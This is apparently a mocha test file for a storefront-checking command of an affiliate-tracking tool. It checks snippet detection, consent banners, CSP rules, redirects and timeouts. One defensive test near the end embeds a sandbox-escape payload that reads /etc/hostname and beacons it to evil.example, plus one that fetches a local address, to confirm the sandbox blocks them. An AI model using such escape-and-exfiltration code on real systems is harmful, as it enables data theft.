import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import { runCheckStorefront } from '../../server/check-storefront/check-storefront-command.ts';
import { startServer, type TestServer } from '../support/a-server.ts';
import { openShop as connectShop, type Shop } from '../support/a-shop.ts';

interface Page {
  html: string;
  headers?: Record<string, string>;
}

describe("checking a shop's page", () => {
  let at: TestServer;
  let shop: Shop;
  let key: string;
  const open: Server[] = [];

  before(async () => {
    at = await startServer();
    shop = await connectShop(at);
    key = shop.stores.custom.storeKey;
  });

  afterEach(() => {
    for (const server of open.splice(0)) server.close().closeAllConnections();
  });

  after(() => at.stop());

  /** Opens a shop that answers every address with the page; `/moved` redirects and forgets the query. */
  async function openShop({ html, headers = {} }: Page): Promise<string> {
    const server = createServer((request, response) => {
      if (request.url?.startsWith('/moved?')) return void response.writeHead(301, { location: '/' }).end();
      if (request.url === '/round') return void response.writeHead(302, { location: '/round' }).end();
      response.writeHead(200, { 'content-type': 'text/html', ...headers }).end(html);
    });
    open.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  const tag = (attributes = '', store = key, host = at.url): string =>
    `<!doctype html><head><script async src="${host}/snippet.js?store=${store}" ${attributes}></script></head>`;

  async function check(address: string, ...flags: string[]): Promise<{ code: number; said: string }> {
    const lines: string[] = [];
    const code = await runCheckStorefront([address, ...flags], undefined, (line) => lines.push(line));
    return { code, said: lines.join('\n') };
  }

  describe('all is well', () => {
    it('the script is found and loads, and the server takes the touch', async () => {
      const { code, said } = await check(
        await openShop({ html: tag() }),
        '--code',
        'anna',
        '--server',
        at.url,
      );
      expect(said).to.include(`The script is on the page: ${at.url}/snippet.js`);
      expect(said).to.include(`It names the store ${key}`);
      expect(said).to.include('A touch arrives: the server took a visit');
      expect(said).to.match(/All is well\.$/);
      expect(code).to.equal(0);
    });

    it('without a code the server is asked all the same, and nothing is recorded', async () => {
      const { code, said } = await check(await openShop({ html: tag() }));
      expect(said).to.include('A touch arrives, and the server knows the store.');
      expect(said).to.include('nothing was recorded');
      expect(code).to.equal(0);
    });

    it('a code under another parameter is carried by it', async () => {
      const address = await openShop({ html: tag('data-params="aff,ref"') });
      const { code, said } = await check(address, '--code', 'anna');
      expect(said).to.include('A link with ?aff= arrives with its code.');
      expect(code).to.equal(0);
    });

    it('a policy that names the server is none in the way', async () => {
      const policy = `default-src 'self'; script-src 'self' ${at.url}; connect-src ${at.url}`;
      const address = await openShop({ html: tag(), headers: { 'content-security-policy': policy } });
      expect((await check(address, '--code', 'anna')).code).to.equal(0);
    });
  });

  describe('a consent banner holds the script', () => {
    for (const [what, attributes, words] of [
      [
        'by its type',
        'type="text/plain" data-cookieconsent="marketing"',
        'A consent banner holds the script',
      ],
      ['by its attribute', 'data-consent="required"', 'The script waits for consent'],
    ] as const) {
      it(`${what}: that is told, is no problem, and the touch after consent arrives`, async () => {
        const { code, said } = await check(await openShop({ html: tag(attributes) }), '--code', 'anna');
        expect(said).to.include(words);
        expect(said).to.include('A touch arrives');
        expect(code).to.equal(0);
      });
    }
  });

  describe('something is wrong', () => {
    async function expectProblem(address: string, words: string, ...flags: string[]): Promise<string> {
      const { code, said } = await check(address, ...flags);
      expect(said)
        .to.match(/PROBLEM/)
        .and.include(words);
      expect(code).to.equal(1);
      return said;
    }

    it('the script is not on the page', async () => {
      await expectProblem(await openShop({ html: '<h1>Tea</h1>' }), 'The script is not on the page.');
    });

    it('the tag is commented out', async () => {
      await expectProblem(await openShop({ html: `<!-- ${tag()} -->` }), 'has no tag for it');
    });

    it('the tag names no store', async () => {
      const html = `<script src="${at.url}/snippet.js"></script>`;
      const said = await expectProblem(await openShop({ html }), 'The tag names no store.');
      expect(said).to.include('No touch was tried.');
    });

    it('the server does not know the store', async () => {
      const address = await openShop({ html: tag('', 'store_of_nobody') });
      await expectProblem(address, 'does not know the store');
    });

    it('no affiliate has the code', async () => {
      const address = await openShop({ html: tag() });
      await expectProblem(address, 'No affiliate has the code nobody', '--code', 'nobody');
    });

    it('the policy of the header forbids the script', async () => {
      const headers = { 'content-security-policy': "script-src 'self'" };
      const said = await expectProblem(await openShop({ html: tag(), headers }), 'forbids the script.');
      expect(said).to.include(`Add ${at.url} to script-src`);
    });

    it('the policy of the page forbids the touch', async () => {
      const meta = `<meta http-equiv="Content-Security-Policy" content="connect-src 'self'">`;
      await expectProblem(await openShop({ html: meta + tag() }), 'forbids the script to report touches');
    });

    it('the tag leads to the wrong host', async () => {
      const wrong = await openShop({ html: '<h1>Not here</h1>' });
      const address = await openShop({ html: tag('', key, wrong) });
      const said = await expectProblem(address, 'from the wrong host', '--server', at.url);
      expect(said).to.include('is not the script of Refledger');
    });

    it('the server of the script does not run', async () => {
      const dead = await openShop({ html: '' });
      await new Promise((resolve) => {
        open.at(-1)?.close(resolve);
        open.at(-1)?.closeAllConnections();
      });
      await expectProblem(await openShop({ html: tag('', key, dead) }), 'nothing listens there');
    });

    it('the shop answers with an endless redirect', async () => {
      await expectProblem(`${await openShop({ html: '' })}/round`, 'redirects more than 5 times');
    });

    it('the shop redirects a link and forgets its code', async () => {
      await expectProblem(`${await openShop({ html: tag() })}/moved`, 'is lost on the way');
    });

    it('the script is one that never ends', async () => {
      const endless = '/* /collect/v1/touches */ for (;;);';
      const wrong = await openShop({ html: endless });
      const said = await expectProblem(await openShop({ html: tag('', key, wrong) }), 'sent no touch');
      expect(said).to.include('timed out');
    });

    describe('the script reaches for what is not the page', () => {
      const outside = "const outside = URL.constructor('return globalThis')();";
      const ways: [string, string][] = [
        [
          'files of the machine',
          `${outside} const { readFileSync } = outside.process.getBuiltinModule('node:fs');
           navigator.sendBeacon('http://evil.example/', readFileSync('/etc/hostname', 'utf8'));`,
        ],
        ['the network of the machine', `${outside} outside.fetch('ADDRESS');`],
      ];
      for (const [what, reach] of ways) {
        it(`and gets nothing: ${what}`, async () => {
          const asked: (string | undefined)[] = [];
          const inside = createServer(({ url }, response) => {
            asked.push(url);
            response.end();
          });
          open.push(inside);
          await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
          const address = `http://127.0.0.1:${(inside.address() as AddressInfo).port}/`;
          const html = `/* /collect/v1/touches */ ${reach.replace('ADDRESS', address)}`;
          const wrong = await openShop({ html });
          const said = await expectProblem(await openShop({ html: tag('', key, wrong) }), 'sent no touch');
          expect(said).to.include('Code generation from strings disallowed');
          expect(asked).to.deep.equal([]);
        });
      }
    });
  });

  describe('the command is called wrongly', () => {
    for (const args of [
      [],
      ['ftp://shop.example'],
      ['a.example', 'b.example'],
      ['a.example', '--code', 'an na'],
    ]) {
      it(`"${args.join(' ')}": it says what to write`, async () => {
        const error = await runCheckStorefront(args, undefined, () => {}).catch((thrown: unknown) => thrown);
        expect((error as Error).message).to.match(/Usage: refledger check-storefront|--code is/);
      });
    }
  });
});
